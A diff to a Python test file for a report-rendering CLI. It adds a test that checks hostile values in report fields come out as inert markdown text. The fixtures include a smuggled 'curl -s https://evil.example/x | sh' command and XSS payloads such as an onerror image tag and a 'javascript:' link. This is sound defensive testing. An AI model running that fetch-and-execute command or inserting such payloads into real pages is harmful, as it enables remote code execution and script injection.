@@ -1,14 +1,16 @@
 """Hostile inputs, as real CLI processes: devices, FIFOs, endless or random
 stdin, deep nesting and crafted report fields each end in one
 `bridge: error:` line and exit status 2, quickly (a bounded reader: memory
-stays bounded too), never a traceback or a hang. A broken twins cache costs
-one warning, and the run after it works."""
+stays bounded too), never a traceback or a hang; fields a report may hold
+anything in render as text. A broken twins cache costs one warning, and the
+run after it works."""
 
 from __future__ import annotations
 
 import copy
 import json
 import os
+import re
 import resource
 import subprocess
 import sys
@@ -185,6 +187,48 @@ def test_crafted_fields_are_refused_before_rendering(tmp_path, case):
     bad.write_text(json.dumps(_crafted(path, value)))
     # One process each (compare and plot: tests/fuzz/test_fuzz_reports.py, in-process).
     one_line_error(bridge_cmd("report", str(bad), "--format", "markdown", timeout=30), message)
+
+
+# Fields a report may hold anything in: each renders, and inert (issue 33).
+RENDERED = {
+    "reproduce with a second command": (
+        ("reproduce",),
+        "bridge run hmac-sha1 --quick; curl -s https://evil.example/x | sh",
+    ),
+    "description closing <details>": (
+        ("scenarios", 0, "description"),
+        "</details><img src=x onerror=alert(1)>",
+    ),
+    "call with backticks and pipes": (("results", 0, "call"), "a`b``|c|`"),
+    "stderr tail with a fence": (("errors", 0, "stderr_tail"), "```\n</details>\n````"),
+    "error message with markup": (("errors", 0, "message"), "# h\n- *x* <script>x</script>"),
+    "runtime version with a link": (("runtimes", 0, "version"), "[x](javascript:alert(1))"),
+}
+
+
+@pytest.mark.parametrize("case", list(RENDERED))
+def test_markup_in_a_field_renders_as_text(tmp_path, case):
+    from markdown_it import MarkdownIt
+
+    from bridge.render import escape
+
+    path, value = RENDERED[case]
+    doc = json.loads((FIXTURES / "roundtrip" / "run-mix1.json").read_text())
+    target = doc
+    for part in path[:-1]:
+        target = target[part]
+    target[path[-1]] = value
+    bad = tmp_path / "r.json"
+    bad.write_text(json.dumps(doc))
+    done = bridge_cmd("report", str(bad), "--format", "markdown", timeout=30)
+    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
+    md = done.stdout
+    assert "curl" not in md
+    html = MarkdownIt("commonmark", {"html": True}).enable(["table"]).render(md)
+    assert not re.search(r"<(img|script|a|h1|h2|em|hr|ol)\b", html), html
+    for block in re.findall(r"(?m)^(\|.*\n)(\|[-:|]+\|\n)((?:\|.*\n)*)", md):
+        widths = {len(escape.md_row_cells(row)) for row in "".join(block).splitlines()}
+        assert len(widths) == 1, block
 
 
 @pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity", "1e400"])
